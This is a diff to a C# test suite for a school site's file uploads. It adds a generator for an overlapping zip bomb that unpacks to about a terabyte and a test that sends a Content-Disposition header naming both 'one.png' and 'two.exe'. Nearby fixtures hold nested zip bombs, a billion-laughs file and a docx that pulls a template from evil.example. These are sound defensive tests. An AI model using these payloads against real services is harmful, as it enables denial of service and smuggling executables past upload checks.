@@ -1,3 +1,4 @@
+using System.Buffers.Binary;
 using System.Globalization;
 using System.IO.Compression;
 using System.Net;
@@ -26,6 +27,22 @@ public sealed class CorpusTests(MediaSchool school) : IClassFixture<MediaSchool>
         return stream.ToArray();
     }
 
+    /// <summary>An archive that names the same million noughts again and again (after David Fifield's overlapping bomb): a terabyte, for whoever unpacks it.</summary>
+    private static byte[] Overlapping(int names)
+    {
+        var zip = Zip(("noughts", new byte[1_000_000]));
+        var end = zip.AsSpan().LastIndexOf("PK\u0005\u0006"u8);
+        var start = BinaryPrimitives.ReadInt32LittleEndian(zip.AsSpan(end + 16));
+        var all = new MemoryStream();
+        all.Write(zip.AsSpan(0, start));
+        for (var i = 0; i < names; i++) all.Write(zip.AsSpan(start, end - start));
+        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 8), ushort.MaxValue);
+        BinaryPrimitives.WriteUInt16LittleEndian(zip.AsSpan(end + 10), ushort.MaxValue);
+        BinaryPrimitives.WriteInt32LittleEndian(zip.AsSpan(end + 12), names * (end - start));
+        all.Write(zip.AsSpan(end));
+        return all.ToArray();
+    }
+
     private static byte[] Bytes(string text) => Encoding.Latin1.GetBytes(text);
     private static byte[] Png() => Studio.Photo(64, 64, format: MagickFormat.Png);
 
@@ -42,6 +59,7 @@ public sealed class CorpusTests(MediaSchool school) : IClassFixture<MediaSchool>
         { "U04 a page before a document", "worksheet.pdf" },
         { "U05 an archive of a thousand million noughts in archives", "42.zip" },
         { "U05 an archive of ten thousand names", "many.zip" },
+        { "U05 an archive of a million names for the same noughts", "overlap.zip" },
         { "U07 an essay with a program in it", "essay.docm" },
         { "U07 an essay that asks the network", "essay.docx" },
         { "U07 a table of a billion laughs", "table.xlsx" },
@@ -67,6 +85,7 @@ public sealed class CorpusTests(MediaSchool school) : IClassFixture<MediaSchool>
         "U04 a page before a document" => [.. Bytes(Script), .. Bytes("%PDF-1.7\n%%EOF\n")],
         "F07 a photo in capitals" => Studio.Photo(64, 64),
         "U05 an archive of a thousand million noughts in archives" => Zip(("lib.zip", Zip(("zeros", new byte[20_000_000]))), ("lib2.zip", Zip(("zeros", new byte[20_000_000])))),
+        "U05 an archive of a million names for the same noughts" => Overlapping(1_000_000),
         "U05 an archive of ten thousand names" => Zip([.. Enumerable.Range(0, 10_000).Select(i => ($"{i.ToString(CultureInfo.InvariantCulture)}.txt", Array.Empty<byte>()))]),
         "U07 an essay with a program in it" => Zip(("[Content_Types].xml", Bytes("<Types/>")), ("word/document.xml", Bytes("<w/>")), ("word/vbaProject.bin", Bytes("macro"))),
         "U07 an essay that asks the network" => Zip(("[Content_Types].xml", Bytes("<Types/>")), ("word/_rels/settings.xml.rels", Bytes("<Relationships><Relationship TargetMode=\"External\" Target=\"http://evil.example/t.dotm\"/></Relationships>"))),
@@ -153,6 +172,23 @@ public sealed class CorpusTests(MediaSchool school) : IClassFixture<MediaSchool>
 
         Assert.Equal("image/png", file.ContentType);
         Assert.EndsWith(".png", file.Name, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task U14_A_part_with_two_names_is_what_its_bytes_are()
+    {
+        using var okafor = await school.Site.SignedInAsync("Okafor");
+        var form = Form(await okafor.TokenAsync());
+        var part = new ByteArrayContent(Png());
+        part.Headers.TryAddWithoutValidation("Content-Disposition", "form-data; name=\"Form.Files\"; filename=\"one.png\"; filename=\"two.exe\"");
+        form.Add(part);
+
+        var answer = await okafor.SendAsync(new HttpRequestMessage(HttpMethod.Post, $"/classes/{school.ClassId}/posts/new") { Content = form });
+
+        Assert.InRange((int)answer.Status, 300, 499);
+        if (answer.Status != HttpStatusCode.Redirect) return;
+        var file = await school.Site.WithDbAsync(db => db.Files.OrderByDescending(f => f.Id).FirstAsync());
+        Assert.True(file.ContentType == "image/png" && file.Name.EndsWith(".png", StringComparison.Ordinal), file.Name);
     }
 
     [Fact]
